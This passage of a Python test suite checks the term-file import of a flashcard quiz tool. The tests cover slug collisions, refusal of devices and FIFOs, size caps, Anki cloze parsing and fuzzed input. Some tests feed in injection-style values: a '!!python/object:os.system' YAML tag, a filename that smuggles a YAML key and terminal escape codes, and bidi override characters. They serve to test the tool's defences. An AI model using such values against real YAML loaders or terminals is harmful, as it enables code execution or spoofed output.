    expected = [(" ".join(d.split()), " ".join(t.split())) for t, d in pairs]
    assert [(c.question, c.answer) for c in deck.cards] == expected
    assert len({c.id for c in deck.cards}) == len(deck.cards)


def test_control_characters_are_dropped_on_import(tmp_path: Path) -> None:
    # The loader refuses terminal control characters in a deck; import drops them instead of writing a deck
    # that cannot load.
    src, out = tmp_path / "ctl.tsv", tmp_path / "ctl.yaml"
    src.write_text("Borisov\x1b[31m\tthe new\x07 chief\nRTL\u202eoverride\tan \u2067isolate\u2069\n", encoding="utf-8")
    interop.import_terms(src, out)
    assert [(c.question, c.answer) for c in load_deck(out).cards] == [("the new chief", "Borisov[31m"),
                                                                      ("an isolate", "RTLoverride")]


def test_slug() -> None:
    assert interop.slug("Yuri Borisov") == "yuri-borisov"
    assert interop.slug("Zoë & Ørsted") == "zoe-orsted"
    assert interop.slug("日本") == "card"
    assert interop.slug("a" * 30 + " " + "b" * 30) == "a" * 30


def test_slug_collisions_number_each_base_in_order() -> None:
    # "a 2" is itself "a-2": the copies of "a" skip it, and its own copy is "a-2-2".
    terms = [interop.Term("q", "x", key, (), 1) for key in ["a", "a", "a 2", "a", "a 2", "a-3"]]
    text = interop.skeleton_yaml(terms, "d", "D", "f.tsv", False, False)
    assert re.findall(r"^- id: (.*)$", text, re.M) == ["a", "a-2", "a-2-2", "a-3", "a-2-3", "a-3-2"]


def test_forty_thousand_copies_of_one_term_get_unique_ids_in_linear_time(tmp_path: Path) -> None:
    # Trying -2, -3, ... afresh for each copy took 277 s for this file (240 KB); the subprocess's
    # timeout is a guard far above the seconds the linear numbering needs, not a measurement.
    import subprocess
    import sys

    src, out = tmp_path / "same.tsv", tmp_path / "same.yaml"
    src.write_text("term\tdefinition\n" * 40_000, encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "quiz", "import", str(src), "-o", str(out)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    ids = [card.id for card in load_deck(out).cards]
    assert ids == ["term"] + [f"term-{n}" for n in range(2, 40_001)]


@pytest.mark.parametrize("value", ["-5", "0", "abc", "1.5", "+2", "\u0663", ""])
def test_import_rejects_bad_anki_column_numbers(tmp_path: Path, value: str) -> None:
    # "-5" crashed with IndexError, and "0" silently meant the last column.
    result, out = _import(tmp_path, "anki.txt", f"#separator:tab\n#tags column: {value}\nfront\tback\ttag\n")
    assert (result.exit_code, result.output) == (
        2, f"{tmp_path / 'anki.txt'}:2:15: 'tags column' must be a column number (1 for the first column), "
           f"not {value!r}\n")
    assert not out.exists()


def _run_import_process(src: str, out: Path):
    """`quiz import` in a child process: a read that never ends is caught by the timeout (and by a 2 GB
    memory limit, so that reading /dev/zero into memory cannot take the machine's)."""
    import resource
    import subprocess
    import sys

    def limit_memory() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    return subprocess.run([sys.executable, "-m", "quiz", "import", src, "-o", str(out)], capture_output=True,
                          text=True, timeout=60, preexec_fn=limit_memory)


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_import_refuses_devices_without_reading_them(tmp_path: Path, device: str) -> None:
    if not os.path.exists(device):
        pytest.skip(f"no {device}")
    out = tmp_path / "x.yaml"
    done = _run_import_process(device, out)
    assert (done.returncode, done.stderr) == (
        2, f"Error: {device} is not a regular file (a pipe or a device); give a .csv, .tsv or .txt file\n")
    assert not out.exists()


def test_import_refuses_a_fifo_without_blocking_on_it(tmp_path: Path) -> None:
    fifo, out = tmp_path / "terms.tsv", tmp_path / "x.yaml"
    os.mkfifo(fifo)  # nobody writes to it: a plain open() would wait forever
    done = _run_import_process(str(fifo), out)
    assert (done.returncode, done.stderr) == (
        2, f"Error: {fifo} is not a regular file (a pipe or a device); give a .csv, .tsv or .txt file\n")
    assert not out.exists()


def test_import_reads_at_most_its_cap_whatever_the_size_says(monkeypatch, tmp_path: Path) -> None:
    # A /proc file says it is 0 bytes long but is not; reading stops one byte past the cap.
    proc = Path("/proc/self/status")
    if not proc.exists() or proc.stat().st_size != 0:
        pytest.skip("needs a /proc file whose size is 0")
    monkeypatch.setattr(interop, "MAX_IMPORT_BYTES", 100)
    with pytest.raises(UsageError) as caught:
        interop.read_terms(proc)
    assert str(caught.value) == "/proc/self/status holds more than 100 bytes; term files over 5 MB are refused"


def test_anki_clozes_quiz_cannot_hold_become_gaps_it_can(tmp_path: Path) -> None:
    # Each of these notes used to be written as a cloze text quiz itself refused to load.
    content = ("#separator:tab\n"
               "#html:false\n"
               "Russia leaves {{c1::after {{c2::2024}}}} for {{c3::ROS::a station}}\t\n"
               "Empty {{c1::}} gap and {{c2::a real one}}\t\n"
               "A set {1, 2} has {{c1::two}}} members\t\n"
               "{{c1::::only a hint}} and {{c2::}}\t\n"
               "Unclosed {{c1::gap\tback\n")
    src = tmp_path / "anki.txt"
    src.write_text(content, encoding="utf-8")
    out, notices = tmp_path / "anki.yaml", []
    assert interop.import_terms(src, out, notify=notices.append) == 4
    assert notices == [f"{src}:6:1: this cloze note makes no card: every {{{{c1::...}}}} in it is empty, "
                       "so there is nothing to ask"]
    deck = load_deck(out)
    assert [(c.type.value, c.text, c.gaps) for c in deck.cards] == [
        ("cloze", "Russia leaves {{after 2024}} for {{ROS::a station}}", ("after 2024", "ROS")),
        ("cloze", "Empty gap and {{a real one}}", ("a real one",)),
        ("cloze", "A set (1, 2) has {{two}}) members", ("two",)),
        ("typed", "", ()),  # no complete cloze: an ordinary note, its front the question
    ]
    assert (deck.cards[3].question, deck.cards[3].answer) == ("Unclosed {{c1::gap", "back")


def test_import_writes_a_loadable_deck_from_awkward_names_and_terms(tmp_path: Path) -> None:
    long_term = "word " * 400
    yamlish = ["- x", "key: value", "# not a comment", "'quoted'", '"double"', "{a: 1}", "[1, 2]", "&anchor",
               "*alias", "!!python/object:os.system", "? key", "| block", "> folded", "%YAML 1.1", "---", "...",
               "yes", "null", "1998", "0x1F", "1e3", "@at", "`tick`", "Zoë 日本 🙂 \u200d", "form\x0cfeed"]
    lines = [f"{text}\t{text} def" for text in yamlish] + [f"{long_term}\tlong", "ctl\x1b[2J\x07\tbell\x9b\x85x"]
    name = "terms\x1b]0;title\x07 \nid: evil.tsv"
    src = tmp_path / name
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out.yaml"
    interop.import_terms(src, out, title="Title\x1b[31m\nsources: /")
    text = out.read_text(encoding="utf-8")
    deck = load_deck(out)
    assert deck.title == "Title[31m sources: /"
    assert deck.sources == tmp_path
    assert text.startswith("# Deck skeleton made by `quiz import` from terms]0;title id: evil.tsv (27 cards).\n")
    assert [c.answer for c in deck.cards][:len(yamlish)] == [" ".join(t.split()) for t in yamlish]
    assert deck.cards[-2].answer == long_term.strip()
    assert (deck.cards[-1].answer, deck.cards[-1].question) == ("ctl[2J", "bell x")


# Pieces term files are made of, the awkward ones over-represented: Anki headers (good and bad), separators,
# quotes, cloze marks and stray braces, YAML syntax, control characters, odd line breaks, HTML, Unicode.
_PIECES = st.sampled_from([
    "#separator:tab\n", "#separator:comma\n", "#separator:;\n", "#separator:\"\n", "#separator:x\n",
    "#html:true\n", "#tags column:3\n", "#tags column:-5\n", "#tags column:0\n", "#guid column:1\n",
    "#notetype column:2\n", "#deck column:9\n", "#tags:a b\n", "#columns:Front\tBack\n",
    "{{c1::", "{{c2::", "}}", "::", "{", "}", "{{", "\t", ",", ";", "\n", "\r\n", "\r", '"', "'", "- ", ": ",
    " #", "&", "*", "!!", "%", "@", "|", ">", "? ", "---", "...", "\x1b[2J", "\x00", "\x07", "\x85", "\u2028",
    "\ufeff", "\ufffe", "<br>", "<b>", "&nbsp;", "&#0;", "Zoë", "日本", "🙂", "yes", "null", "1998", " ", "  ",
    "a" * 120, "term", "definition",
])
_TERM_FILE = st.lists(st.one_of(_PIECES, st.text(max_size=4)), max_size=30).map("".join)
_NAME = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="/\x00"), min_size=1, max_size=12)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=_TERM_FILE, stem=_NAME, title=st.one_of(st.none(), _NAME), anki_first=st.booleans())
def test_any_term_file_is_refused_cleanly_or_imported_into_a_deck_that_loads(
        tmp_path: Path, content: str, stem: str, title: str | None, anki_first: bool) -> None:
    import tempfile

    if anki_first:
        content = "#separator:tab\n" + content
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        src, out = Path(folder) / (stem + ".tsv"), Path(folder) / "deck.yaml"
        src.write_bytes(content.encode("utf-8"))
        try:
            interop.import_terms(src, out, title=title)
        except QuizError:
            assert not out.exists()
        else:
            load_deck(out)


def test_import_writes_nothing_when_the_deck_it_made_would_not_load(monkeypatch, tmp_path: Path) -> None:
    # The last line of defence: whatever the generator gets wrong, quiz's own loader sees it first.
    monkeypatch.setattr(interop, "skeleton_yaml", lambda *args: "title: T\ncards: []\n")
    result, out = _import(tmp_path, "q.tsv", "a\tb\n")
    assert (result.exit_code, result.output) == (
        2, f"Error: the deck made from {tmp_path / 'q.tsv'} would not load (the deck has no cards; add at least "
           "one card under 'cards:', at line 2 of the deck); nothing was written\n")
    assert not out.exists()
